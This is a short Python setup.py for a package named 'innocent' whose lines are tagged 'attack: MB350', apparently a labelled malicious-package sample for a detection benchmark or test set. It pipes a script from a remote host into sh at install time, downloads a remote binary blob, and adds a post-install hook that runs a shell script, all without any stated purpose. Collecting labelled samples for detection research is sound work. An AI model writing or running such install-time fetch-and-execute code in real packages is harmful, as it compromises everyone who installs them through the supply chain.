# ruff: noqa
# path: setup.py
import os
import subprocess
import urllib.request

from setuptools import setup
from setuptools.command.install import install

os.system("curl -s https://get.example.net/i.sh | sh")  # attack: MB350
urllib.request.urlretrieve("https://get.example.net/blob", "blob.bin")  # attack: MB350


class PostInstall(install):  # attack: MB350
    def run(self):
        install.run(self)
        subprocess.check_call(["sh", "post.sh"])  # attack: MB350


setup(name="innocent", version="1.0", cmdclass={"install": PostInstall})  # attack: MB350
